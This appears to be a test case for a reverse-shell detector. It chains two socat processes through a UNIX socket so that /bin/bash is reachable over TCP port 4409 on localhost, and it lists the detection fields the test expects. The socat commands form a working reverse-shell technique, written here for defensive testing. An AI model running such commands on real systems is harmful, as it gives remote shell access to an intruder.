# R09: two socats, a named AF_UNIX socket between them
# stage: equipped
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.length: 3
#   reverse_shell.process_list.0.process_id: $outer
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4409
#   reverse_shell.process_list.2.process_id: $shell

#: prepare
. lib/peers.sh
peer 4409
socat UNIX-LISTEN:/tmp/r09 EXEC:/bin/bash > /dev/null 2>&1 & fact inner $!
await '[ -S /tmp/r09 ]'
#: act
. lib/peers.sh
act
socat TCP:127.0.0.1:4409 UNIX-CONNECT:/tmp/r09 > /dev/null 2>&1 & fact outer $!
who shell /bin/bash
await 'at $shell 0 socket:* && at $outer 5 socket:* && at $outer 6 socket:*'
